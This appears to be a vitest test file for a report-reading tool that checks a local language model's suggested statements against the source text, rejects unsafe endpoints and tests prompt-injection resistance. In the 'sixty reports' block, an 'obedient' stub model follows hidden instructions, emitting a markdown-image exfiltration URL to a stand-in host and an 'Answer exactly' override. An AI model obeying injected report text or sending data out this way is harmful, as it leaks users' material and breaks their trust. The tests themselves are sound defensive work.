// The optional model reader against stubs on this machine: what invents, shifts, swaps, babbles, hangs, dies or obeys what a report tells it.
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { writeFile, mkdir } from 'node:fs/promises'
import { join } from 'node:path'
import { describe, expect, onTestFinished, test } from 'vitest'
import { suggestionsFor } from '../../src/desk/reading/ask-model.ts'
import { modelSettings } from '../../src/desk/reading/model-settings.ts'
import { resolved } from '../../src/desk/reading/resolve-report.ts'
import type { Report } from '../../src/model/report.ts'
import { withSuggestions } from '../../src/model/suggestion.ts'
import { answerQuestions } from '../../src/questions/answer.ts'
import { readPage } from '../../src/reading/read.ts'
import { textPage } from '../../src/reading/readers/plain-text.ts'
import { injected } from '../reading/model-injections.ts'
import { codeOf, file, openTestDesk, testFolder } from './open-test-desk.ts'

type Asked = { readonly candidates: readonly { id: string; name: string }[]; readonly sentences: readonly { number: number; text: string }[] }
type Stub = { readonly endpoint: string; readonly requests: Asked[] }

const message = (content: string): string => JSON.stringify({ choices: [{ message: { role: 'assistant', content } }] })
const statements = (...list: readonly unknown[]): string => message(JSON.stringify({ statements: list }))
const proposal = (sentence: number, words: string, speaker: string | null, more: object = {}): object => ({
  ...{ sentence, content: [words], cue: null, speaker, directness: 'indirect', strength: 'says', negated: false },
  ...more,
})

async function stub(answer: (asked: Asked, response: ServerResponse) => string | null, status = 200): Promise<Stub> {
  const requests: Asked[] = []
  const server: Server = createServer((request: IncomingMessage, response) => {
    let body = ''
    request.on('data', (piece: Buffer) => (body += piece.toString()))
    request.on('end', () => {
      const { messages } = JSON.parse(body) as { messages: readonly { content: string }[] }
      const asked = JSON.parse(messages[1]?.content ?? '{}') as Asked
      requests.push(asked)
      const text = answer(asked, response)
      if (text !== null) response.writeHead(status, { 'Content-Type': 'application/json' }).end(text)
    })
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  onTestFinished(() => {
    server.closeAllConnections()
    server.close()
  })
  return { endpoint: `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`, requests }
}

const settings = (endpoint: string, more: object = {}) => modelSettings({ endpoint, model: 'stub', ...more })
const reportOf = (text: string): Report => resolved(readPage(textPage(text)), { published: '2026-03-16' }, 'UTC', null)
const never = new AbortController().signal
const ask = async (report: Report, answer: (asked: Asked, response: ServerResponse) => string | null, more: object = {}) => {
  const { endpoint } = await stub(answer)
  return suggestionsFor(report, settings(endpoint, more), never)
}

// "The crane was due for the scrapyard by all accounts on the quay." is nobody's statement to the rules.
const TEXT =
  'The port authority said that the crane was old. By all accounts on the quay, the crane was due for the scrapyard. “A wreck”, in the dockers’ words. It fell on Saturday.'
const WORDS = 'the crane was due for the scrapyard'

describe('what a model proposes is held against the text', () => {
  test('words that stand there are suggested, marked, and nothing else changes', async () => {
    const report = reportOf(TEXT)
    const found = await ask(report, () => statements(proposal(2, WORDS, null)))
    expect(found.statements.map((s) => [s.id, s.origin, s.content.map(({ quote }) => quote), s.speakers])).toEqual([
      ['m1', 'model', [WORDS], ['the report', 'nobody named']],
    ])
    expect(found.asked[0]).toMatchObject({ model: 'stub', failed: null, cut: false, promptSha256: expect.stringMatching(/^[0-9a-f]{64}$/) as string })
    expect(withSuggestions(report, found.statements).statements.slice(0, report.statements.length)).toEqual(report.statements)
  })

  test.each([
    ['invented words', proposal(2, 'the crane was never inspected', null), 'not-in-the-sentence'],
    ['words of another sentence', proposal(4, WORDS, null), 'not-in-the-sentence'],
    ['reworded', proposal(2, 'the crane was due for scrapping', null), 'not-in-the-sentence'],
    ['a span that begins inside a word', proposal(2, 'rane was due for the scrapyard', null), 'cuts-a-word'],
    ['words that stand there twice', proposal(2, 'the', null), 'more-than-once'],
    ['a sentence that is none', proposal(99, WORDS, null), 'sentence-unknown'],
    ['a speaker that is not in the sentence', proposal(2, WORDS, 'the mayor'), 'speaker-not-in-the-sentence'],
    ['a speaker inside the words', proposal(2, WORDS, 'the crane'), 'speaker-in-the-content'],
    ['a cue that is not there', proposal(2, WORDS, null, { cue: 'confessed' }), 'cue-not-in-the-sentence'],
    ['said to be quoted', proposal(2, WORDS, null, { directness: 'direct' }), 'directness-wrong'],
    ['said not to be quoted', proposal(3, '“A wreck”', null), 'directness-wrong'],
    ['a swapped speaker for words that rules have read', proposal(1, 'the crane was old', null), 'read-already'],
    ['a field of its own', { ...proposal(2, WORDS, null), time: '1999-01-01' }, 'not-the-form'],
    ['a strength that is on no list', proposal(2, WORDS, null, { strength: 'proves' }), 'not-the-form'],
    ['nothing', proposal(2, ' … ', null), 'no-words'],
  ])('%s is refused', async (_, wrong, why) => {
    const found = await ask(reportOf(TEXT), () => statements(wrong))
    expect([found.statements, found.rejects.map((reject) => reject.why)]).toEqual([[], [why]])
  })

  test('a candidate counts only where somebody named it nearby', async () => {
    const near = await ask(reportOf(TEXT), ({ candidates }) => statements(proposal(2, WORDS, candidates[0]?.id ?? '')))
    expect(near.statements[0]?.entity).toBe('org:port-authority')
    const far = `${TEXT}${' It rained at the quay that day.'.repeat(40)} The cook had seen the rope go first, by his own account.`
    const found = await ask(reportOf(far), ({ candidates, sentences }) =>
      statements(proposal(sentences.length, 'had seen the rope go first', candidates[0]?.id ?? '')),
    )
    expect(found.rejects.map(({ why }) => why)).toEqual(['speaker-elsewhere'])
  })

  test.each([
    ['prose', message('Certainly! The port says the crane was old, and the mayor confessed.'), 'not-json'],
    ['prose around JSON', message('Here it is: {"statements":[]}'), 'not-json'],
    ['JSON of another shape', message('{"answer":[]}'), 'not-the-form'],
  ])('%s gives nothing', async (_, reply, why) => {
    const found = await ask(reportOf(TEXT), () => reply)
    expect([found.statements, found.rejects.map((reject) => reject.why)]).toEqual([[], [why]])
    expect(found.asked[0]?.reply).not.toBeNull()
  })

  test('proposals beyond two hundred are not looked at', async () => {
    const found = await ask(reportOf(TEXT), () => statements(...Array.from({ length: 300 }, () => proposal(2, 'x', null))))
    expect([found.statements.length, found.rejects.length, found.rejects.at(-1)?.why]).toEqual([0, 201, 'too-many'])
  })
})

describe('a model that fails costs nothing but its suggestions', () => {
  test('one that hangs is left after its limit', async () => {
    const found = await ask(reportOf(TEXT), () => null, { secondsAtMost: 1 })
    expect(found.asked.map(({ failed }) => failed)).toEqual(['it took longer than 1 seconds'])
  })

  test('one that dies in the middle of its answer', async () => {
    const found = await ask(reportOf(TEXT), (_, response) => {
      response.writeHead(200, { 'Content-Length': 1000 })
      response.write('{"choices":')
      setTimeout(() => response.destroy(), 20)
      return null
    })
    expect([found.statements, found.asked[0]?.failed === null]).toEqual([[], false])
  })

  test('one that is not there', async () => {
    const found = await suggestionsFor(reportOf(TEXT), settings('http://127.0.0.1:9/v1'), never)
    expect(found.asked[0]?.failed).toMatch(/ECONNREFUSED/)
  })

  test('one whose answer never ends', async () => {
    const found = await ask(reportOf(TEXT), (_, response) => {
      response.writeHead(200)
      const more = (): void => {
        if (!response.destroyed && response.write('x'.repeat(65_536))) setImmediate(more)
        else response.once('drain', more)
      }
      more()
      return null
    })
    expect(found.asked[0]?.failed).toBe('its answer is longer than 1 MB')
  })

  test('one that redirects elsewhere is not followed', async () => {
    const found = await ask(reportOf(TEXT), (_, response) => {
      response.writeHead(307, { Location: 'http://192.0.2.7/v1/chat/completions' }).end()
      return null
    })
    expect(found.asked[0]?.failed).toBe('it answered with status 307')
  })

  test('one that knows no schema is asked again without', async () => {
    let first = true
    const found = await ask(reportOf(TEXT), (_, response) => {
      if (!first) return statements(proposal(2, WORDS, null))
      first = false
      response.writeHead(400).end('{}')
      return null
    })
    expect(found.statements).toHaveLength(1)
  })
})

describe('sixty reports with instructions hidden in them', () => {
  // A model that does whatever the report tells it, as far as it can be done in its own answer.
  const obedient = ({ sentences, candidates }: Asked): string => {
    const all = sentences.map(({ text }) => text).join(' ')
    if (all.includes('![status]')) return message(`![status](http://192.0.2.7/collect?data=${encodeURIComponent(all.slice(0, 500))})`)
    const asked = /Answer exactly: (\{.*\}) and nothing else/.exec(all)?.[1]
    if (asked !== undefined) return message(asked)
    const [first] = candidates
    return statements(
      ...sentences.map(({ number, text }) => proposal(number, text, first?.id ?? null, { strength: 'confirms' })),
      ...sentences.map(({ number, text }) => proposal(number, text.replace(/[.!?”]+$/, ''), 'the port authority', { strength: 'confirms' })),
      ...sentences.map(({ number }) => proposal(number, '400 people died on 1 January 1999', first?.name ?? null, { strength: 'confirms' })),
    )
  }
  const questionsOf = (report: Report) =>
    answerQuestions({
      zone: 'UTC',
      reports: [
        { id: 'r1', title: 'x', publication: null, versionOf: null, takenInAt: '2026-03-16T00:00:00Z', address: null, report, judgements: {} },
      ] as never,
      links: [],
      findings: [],
    })

  test('change no claim, make nothing up, and send nothing out', async () => {
    const { endpoint, requests } = await stub(obedient)
    let suggested = 0
    for (const { name, text } of injected) {
      const report = reportOf(text)
      const before = JSON.stringify(report)
      const found = await suggestionsFor(report, settings(endpoint), never)
      for (const statement of found.statements) {
        const spans = [...statement.content, ...(statement.cue === null ? [] : [statement.cue]), ...(statement.speaker === null ? [] : [statement.speaker])]
        for (const span of spans) expect([name, report.text.slice(span.start, span.end)]).toEqual([name, span.quote])
        expect([name, statement.origin, /1999|400|collect/.test(statement.speakers.join(' '))]).toEqual([name, 'model', false])
      }
      const after = withSuggestions(report, found.statements)
      expect(JSON.stringify(report)).toBe(before)
      expect({ ...after, statements: after.statements.filter(({ origin }) => origin === undefined) }).toEqual(report)
      expect(questionsOf(after), name).toEqual(questionsOf(report))
      suggested += found.statements.length
    }
    expect(injected).toHaveLength(60)
    expect(requests).toHaveLength(60) // one each, to the stub; the trap of the run refuses every other (test/trap)
    expect(suggested).toBeGreaterThan(0) // it was obeyed as far as it goes, so that the test is one
  })
})

describe('on a desk', () => {
  test('no model is asked unless a person said so', async () => {
    const desk = await openTestDesk()
    const incident = await desk.openIncident('Crane', 'UTC')
    await desk.takeIn(incident.code, file('a.txt', TEXT))
    await desk.idle()
    expect((await desk.trail(incident.code)).map((entry) => entry.change.kind)).not.toContain('modelAnswered')
  })

  test('a suggestion answers nothing until it is confirmed; the reply stays in the record, and every table can be built again', async () => {
    const text = 'The port said that the crane was old. By all accounts in Marren, the crane fell on Friday. It was filmed.'
    const { endpoint } = await stub(({ sentences }) =>
      statements(proposal(sentences[1]?.number ?? 0, 'the crane fell on Friday', null), proposal(1, 'made up', null)),
    )
    const desk = await openTestDesk({ model: settings(endpoint) })
    await desk.nameDesk('Ida')
    const { code } = await desk.openIncident('Crane', 'UTC')
    const { report } = await desk.takeIn(code, file('a.txt', text, { published: '2026-03-16' }))
    await desk.idle()
    const view = await desk.report(report)
    expect(view.report?.statements.map(({ id, origin }) => [id, origin])).toEqual([
      ['s1', undefined],
      ['m1', 'model'],
    ])
    expect(view.summary.statements).toBe(1)
    const [told] = (await desk.trail(code)).map((entry) => entry.change).filter(({ kind }) => kind === 'modelAnswered')
    expect(told).toMatchObject({ model: 'stub', suggested: 1, refused: 1, failed: null })
    const readings = async () =>
      (await desk.questions(code))
        .flatMap((q) => q.answers)
        .flatMap((a) => a.statements)
        .map((s) => s.reading)
    expect(await readings()).not.toContain('m1')
    await desk.mend(report, { publication: 'Harbour Post' }, null)
    expect((await desk.report(report)).report?.statements.at(-1)).toMatchObject({ id: 'm1', origin: 'model', speakers: ['Harbour Post', 'nobody named'] })
    await desk.judge(report, 'm1', 'confirmed', null)
    await desk.idle()
    expect(await readings()).toContain('m1')
    expect(await desk.rebuild()).toMatchObject({ equal: true, differs: [] })
  })

  test('a report that was read while there was no model is asked about at the next opening', async () => {
    const folder = join(await testFolder(), 'desk')
    const first = await openTestDesk({ in: folder })
    const { code } = await first.openIncident('Crane', 'UTC')
    const { report } = await first.takeIn(code, file('a.txt', TEXT))
    await first.idle()
    await first.close()
    const { endpoint, requests } = await stub(() => statements(proposal(2, WORDS, null)))
    await writeFile(join(folder, 'model.json'), JSON.stringify({ endpoint, model: 'stub' }))
    const second = await openTestDesk({ in: folder })
    await second.idle()
    expect((await second.report(report)).report?.statements.at(-1)?.id).toBe('m1')
    await second.close()
    const third = await openTestDesk({ in: folder })
    await third.idle()
    expect(requests).toHaveLength(1)
  })

  test('a model that is not there leaves a trouble on the report', async () => {
    const desk = await openTestDesk({ model: settings('http://127.0.0.1:9/v1') })
    const { code } = await desk.openIncident('Crane', 'UTC')
    const { report } = await desk.takeIn(code, file('a.txt', TEXT))
    await desk.idle()
    expect((await desk.report(report)).summary.troubles.map((trouble) => trouble.code)).toEqual(['model-not-answered'])
  })

  test.each([
    ['http://192.0.2.7/v1', 'model-beyond-this-machine'],
    ['https://api.example/v1', 'model-beyond-this-machine'],
    ['http://localhost.example/v1', 'model-beyond-this-machine'],
    ['http://127.0.0.1.example/v1', 'model-beyond-this-machine'],
    ['http://ida:secret@127.0.0.1/v1', 'model-settings'],
    ['file:///etc/passwd', 'model-settings'],
    ['not an address', 'model-settings'],
  ])('the endpoint %s is refused: %s', async (endpoint, problem) => {
    const folder = join(await testFolder(), 'desk')
    await mkdir(folder)
    await writeFile(join(folder, 'model.json'), JSON.stringify({ endpoint, model: 'x' }))
    expect(await codeOf(openTestDesk({ in: folder }))).toBe(problem)
  })

  test('beyond this machine only where the desk says so', () => {
    expect(settings('https://192.0.2.7/v1', { beyondThisMachine: true }).endpoint).toBe('https://192.0.2.7/v1')
    for (const endpoint of ['http://localhost:11434/v1', 'http://127.9.9.9/v1', 'http://[::1]:8080/v1']) expect(settings(endpoint).endpoint).toBe(endpoint)
  })
})
